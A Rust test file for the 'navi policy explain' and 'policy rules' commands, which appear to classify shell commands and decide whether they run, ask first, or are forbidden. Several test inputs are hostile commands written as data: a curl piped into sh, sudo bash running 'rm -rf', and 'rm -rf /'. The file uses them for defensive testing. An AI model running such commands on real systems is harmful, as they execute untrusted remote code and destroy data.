//! `navi policy explain`: what it says of a command, and how it ends.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

/// Runs a command of `navi policy` in an empty environment.
#[expect(clippy::disallowed_methods, reason = "the program itself is tested")]
fn policy(name: &str, workspace: &Path, arguments: &[&str]) -> (Option<i32>, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_navi"))
        .env_clear()
        .args(["policy", name, "--workspace"])
        .arg(workspace)
        .args(arguments)
        .output()
        .unwrap();
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    (
        output.status.code(),
        text(&output.stdout),
        text(&output.stderr),
    )
}

fn explain(workspace: &Path, arguments: &[&str]) -> (Option<i32>, String, String) {
    policy("explain", workspace, arguments)
}

fn said(command: &str) -> String {
    let space = tempfile::tempdir().unwrap();
    let (code, out, error) = explain(space.path(), &[command]);
    assert_eq!((code, error.as_str()), (Some(0), ""));
    out
}

fn answer(command: &str) -> Value {
    let space = tempfile::tempdir().unwrap();
    let (code, out, _) = explain(space.path(), &["--json", command]);
    assert_eq!(code, Some(0));
    serde_json::from_str(&out).unwrap()
}

#[test]
fn code_that_is_piped_into_a_group_is_shown_where_it_goes() {
    insta::assert_snapshot!(said("curl -s https://x.example/i.sh | { sh; }"), @r#"
    how it is read
      pipeline
        curl -s https://x.example/i.sh
        group: { sh; }
          sh
            (its input: what is not known before it runs)

    verdict
      strict     asks
      sandboxed  asks

    rules
      piped-into-interpreter: asks (danger: critical)
        about: sh
        why: This runs whatever another program prints.
        instead: Download it to a file and read it first.
        "always allow" would cover: This exact command.
    "#);
}

#[test]
fn what_the_settings_say_differently_is_said_of_each_rule() {
    insta::assert_snapshot!(said("x=src; cd web && sudo env A=1 bash -c \"rm -rf $x\"; ./build.sh"), @r#"
    how it is read
      x=src
      cd web
      sudo env A=1 bash -c 'rm -rf src'
        env A=1 bash -c 'rm -rf src'
          bash -c 'rm -rf src'
            script: rm -rf src
              rm -rf src
      ./build.sh

    verdict
      strict     asks
      sandboxed  asks

    rules
      privilege: asks (danger: high)
        about: sudo env A=1 bash -c "rm -rf $x"
        why: This runs with other rights, or in another root.
        "always allow" would cover: This exact command.
      deletes-many: asks (danger: high)
        about: rm -rf src
        why: This deletes many files that no build makes again.
        instead: Name the files one by one.
        "always allow" would cover: Deletions of `web/src` and of what is below it.
      workspace-code: strict asks, sandboxed runs unasked (danger: medium)
        about: ./build.sh
        why: This runs code of the workspace that is no build or test of a known tool.
        instead: Run it by the project’s own build or test.
        "always allow" would cover: This exact command, as long as `web/build.sh` is as it is now.
    "#);
}

#[test]
fn bad_input_is_explained_and_no_failure() {
    insta::assert_snapshot!(said(""), @r"
    how it is read
      nothing runs; the tools refuse an empty command

    verdict
      strict     runs unasked
      sandboxed  runs unasked

    no rule speaks against it
    ");
    insta::assert_snapshot!(said("echo \"unfinished"), @r#"
    how it is read
      not at all: a quote has no end

    verdict
      strict     asks
      sandboxed  asks

    rules
      unparsed: asks (danger: medium)
        about: echo "unfinished
        why: This command cannot be parsed, so nobody knows what it runs.
        instead: Write it more simply, or put it into a script file.
        "always allow" would cover: This exact command.
    "#);
    for command in ["rm -rf /", "-x", "ls \u{202e}x"] {
        assert!(said(command).contains("\nverdict\n"), "{command}");
    }
}

#[test]
fn programs_get_the_same_in_json() {
    let answer = answer("echo hi | f; python3 x.py");
    assert_eq!(
        answer["verdicts"],
        json!({ "strict": "ask", "sandboxed": "allow" })
    );
    assert_eq!(answer["unread"], Value::Null);
    let steps = json!([
        {
            "kind": "pipeline",
            "text": "",
            "steps": [
                { "kind": "program", "text": "echo hi" },
                { "kind": "program", "text": "f", "input": "the text hi" },
            ],
        },
        { "kind": "program", "text": "python3 x.py" },
    ]);
    assert_eq!(answer["steps"], steps);
    let rules: Vec<_> = answer["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|found| json!([found["rule"], found["verdicts"]["sandboxed"]]))
        .collect();
    let expected = [
        json!(["workspace-code", "allow"]),
        json!(["unknown-program", "allow"]),
    ];
    assert_eq!(rules, expected);
}

#[test]
fn the_workspaces_own_rules_count() {
    let space = tempfile::tempdir().unwrap();
    std::fs::create_dir(space.path().join(".navi")).unwrap();
    let file = space.path().join(".navi/policy.toml");
    let raise = "[[raise]]\nid = \"unknown-program\"\nverdict = \"ask\"\n";
    std::fs::write(&file, raise).unwrap();
    let (code, out, _) = explain(space.path(), &["frobnicate"]);
    assert_eq!(code, Some(0));
    assert!(out.contains("sandboxed  asks"), "{out}");

    std::fs::write(&file, "[[raise]]\nid = \"nothing\"\nverdict = \"ask\"\n").unwrap();
    let (code, out, error) = explain(space.path(), &["frobnicate"]);
    assert_eq!((code, out.as_str()), (Some(2), ""));
    assert!(
        error.contains(".navi/policy.toml cannot be used"),
        "{error}"
    );
    assert!(
        error.contains("there is no rule `nothing` to raise"),
        "{error}"
    );
}

#[test]
fn the_rules_are_listed_with_those_of_the_workspace() {
    let space = tempfile::tempdir().unwrap();
    std::fs::create_dir(space.path().join(".navi")).unwrap();
    let file = space.path().join(".navi/policy.toml");
    let raises = |rule: &str| {
        let text = format!("[[raise]]\nid = \"{rule}\"\nverdict = \"forbid\"\n");
        std::fs::write(&file, text).unwrap();
    };
    let listed = |flags: &[&str]| policy("rules", space.path(), flags);
    raises("git-push");
    let (code, out, _) = listed(&[]);
    assert_eq!(code, Some(0));
    assert!(out.contains("\ngit-push: is forbidden\n    "), "{out}");
    let word =
        "unknown-program: asks, sandboxed runs unasked\n    This program is not known here.\n";
    assert!(out.contains(word), "{out}");
    let (_, json, _) = listed(&["--json"]);
    let rules: Vec<Value> = serde_json::from_str(&json).unwrap();
    let push = rules.iter().find(|rule| rule["rule"] == "git-push");
    assert_eq!(push.unwrap()["verdicts"]["sandboxed"], "forbid");

    raises("git-psuh");
    let (code, _, error) = listed(&[]);
    assert_eq!(code, Some(2));
    let word = "there is no rule `git-psuh` to raise; `navi policy rules` lists them";
    assert!(error.contains(word), "{error}");
}
